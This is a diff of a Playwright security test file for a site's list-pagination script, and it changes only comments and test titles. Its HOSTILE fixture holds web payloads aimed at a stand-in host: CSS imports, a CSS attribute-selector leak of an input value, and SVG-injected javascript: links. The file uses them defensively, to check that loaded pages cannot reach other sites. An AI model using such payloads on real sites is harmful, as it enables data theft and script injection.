@@ -3,8 +3,8 @@ import { expect, test } from '../harness'
 import { loopsMounted } from '../loop/loop-site'
 
 /**
- * Lists whose next page is whatever a file of the site says. What an author can write into a page are attributes, classes, ids and links; a file
- * is what somebody could upload.
+ * Lists whose next page is an arbitrary file of the site. An author can write attributes, classes, ids and links into a page; anybody may be
+ * able to upload a file.
  */
 const EVIL = 'https://evil.test'
 const settings = (pagination_type: string, more = {}) => `data-settings='${JSON.stringify({ pagination_type, ...more })}'`
@@ -16,7 +16,7 @@ const builders = (items: string, after: string, type = 'load_more_infinite_scrol
   `<div class="elementor-element elementor-element-l00p111 elementor-widget" data-id="l00p111" data-element_type="widget" data-widget_type="loop-grid.post" ${settings(type, more)}><div class="elementor-widget-container"><div class="elementor-loop-container">${items}</div>${after}</div></div>`
 const item = (text: string, content = '') => `<div class="e-loop-item e-loop-item-${text.length}"><h2>${text}</h2>${content}</div>`
 
-/** What reaches somebody else, or changes the page around the list. */
+/** Markup that reaches another site, or changes the page around the list. */
 const HOSTILE = `<style>@import "${EVIL}/import.css";html:has(input[value^=s3]) #bg{background:url(${EVIL}/leak-s3)}</style>
 <style id="loop-dynamic-9">@import "${EVIL}/dynamic.css";body{display:none}</style><style id="loop-dynamic-8">@\\69mport "${EVIL}/hidden.css";</style>
 <svg><style>#bg{background:url(${EVIL}/svg.css)}</style><use href="/uploads/evil.svg#x"></use><a href="#"><animate attributeName="href" values="javascript:xss()"></animate><set attributeName="xlink:href" to="javascript:xss()"></set></a></svg>
@@ -32,7 +32,7 @@ interface Site {
   asked: string[]
   files: string[]
 }
-/** A page at `/own/`, without a policy that would help, and files of the site; everything that is asked of somebody else is noted. */
+/** A page at `/own/`, without a policy that would help, and files of the site. Records every request to other sites. */
 async function site(page: Page, body: string, files: (url: URL) => Parameters<Route['fulfill']>[0] | undefined): Promise<Site> {
   const asked: string[] = []
   const seen: string[] = []
@@ -58,7 +58,7 @@ async function site(page: Page, body: string, files: (url: URL) => Parameters<Ro
 }
 const html = (body: string, headers = {}) => ({ contentType: 'text/html; charset=utf-8', headers, body })
 const text = (body: string) => ({ contentType: 'text/plain', headers: { 'x-content-type-options': 'nosniff' }, body })
-/** Lets everything that was asked for come, and what follows from it. */
+/** Waits for every pending request and what follows from it. */
 const settle = (page: Page) =>
   page.evaluate(async () => {
     for (let i = 0; i < 10; i++) await new Promise((done) => requestAnimationFrame(done))
@@ -123,7 +123,7 @@ const next = (shape: 'hand' | 'builder', content: string) =>
   shape === 'hand'
     ? byHand(`<li data-loop-item class="added"><h2>two</h2>${content}</li>`, '')
     : builders(`<div class="e-loop-item e-loop-item-2 added"><h2>two</h2>${content}</div>`, anchor('', '2', '2'))
-test('of the page that a list shows nothing reaches another site, or the page around the list', async ({ page, problems, each }) => {
+test('nothing in a page that a list loads reaches another site, or the page around the list', async ({ page, problems, each }) => {
   await each(
     [
       ['a hand-written list appends', byHand('<li data-loop-item>1</li>', '<a data-loop-more href="/own/?2">More</a>'), 'hand'],
@@ -152,7 +152,7 @@ test('of the page that a list shows nothing reaches another site, or the page ar
         'builder',
       ],
     ] as const,
-    ([what]) => `of the page that ${what} nothing reaches another site, or the page around the list`,
+    ([what]) => `nothing in a page that ${what} reaches another site, or the page around the list`,
     async ([, list, shape]) => {
       const { asked } = await site(page, list, (url) => (url.search ? html(next(shape, HOSTILE)) : undefined))
       await page.getByText('More').click()
@@ -173,7 +173,7 @@ test('of the page that a list shows nothing reaches another site, or the page ar
   )
 })
 
-test('what the served list has, its next page may have, too', async ({ page, problems }) => {
+test('the next page may have whatever the served list has', async ({ page, problems }) => {
   const content = (n: number) =>
     `<style id="loop-dynamic-${n}">.e-loop-item h2{color:rgb(0,128,0)}</style><iframe src="${EVIL}/player/${n}"></iframe><form action="${EVIL}/subscribe/${n}"></form><form action="/own/cart"></form><svg><use href="/icons.svg#${n}"></use><use href="#local"></use></svg>`
   await page.route('**/icons.svg', (route) =>
@@ -197,7 +197,7 @@ test('what the served list has, its next page may have, too', async ({ page, pro
   expect(problems()).toEqual([])
 })
 
-test('a list without end comes to an end by itself', async ({ page, problems, each }) => {
+test('an endless list stops by itself', async ({ page, problems, each }) => {
   await each(
     [
       [
@@ -221,7 +221,7 @@ test('a list without end comes to an end by itself', async ({ page, problems, ea
         (n: number) => byHand('<li data-loop-item>x</li>', `<a data-loop-more href="/own/?${n === 2 ? 3 : 2}">More</a>`),
       ],
     ] as const,
-    ([what]) => `a list whose ${what} comes to an end by itself`,
+    ([what]) => `a list whose ${what} stops by itself`,
     async ([what, list, answer]) => {
       const { files } = await site(page, list, (url) => (url.search ? html(answer(Number(/\d+$/.exec(url.search)?.[0]))) : undefined))
       await settle(page)
@@ -238,7 +238,7 @@ test('a list without end comes to an end by itself', async ({ page, problems, ea
 const filter = (base: string) =>
   `<div class="elementor-element" data-id="f1lt111" data-element_type="widget" data-widget_type="taxonomy-filter.default" data-settings='{"selected_element":"l00p111","taxonomy":"category"}'><div class="elementor-widget-container"><div class="e-filter" data-base-url="${base}" data-page-num="2"><button class="e-filter-item" data-filter="a" aria-pressed="false">a</button></div></div></div>`
 
-test('the route of the CMS is believed only where it answers with JSON', async ({ page, problems }) => {
+test('the CMS’s route is trusted only if it answers with JSON', async ({ page, problems }) => {
   await page.route('**/wp-json/**', (route) =>
     route.fulfill({ contentType: 'text/plain', body: JSON.stringify({ data: '<div class="elementor-widget-container">taken</div>' }) }),
   )
@@ -248,7 +248,7 @@ test('the route of the CMS is believed only where it answers with JSON', async (
   await expect(page.locator('.e-loop-item h2')).toHaveText('one')
 })
 
-test('a filter’s own address is one of this site, whatever its attribute says', async ({ page, problems }) => {
+test('a filter’s address is on this site, whatever its attribute says', async ({ page, problems }) => {
   const sent: string[] = []
   await page.route('**/wp-json/**', (route) => {
     sent.push(route.request().postDataJSON().pagination_base_url)
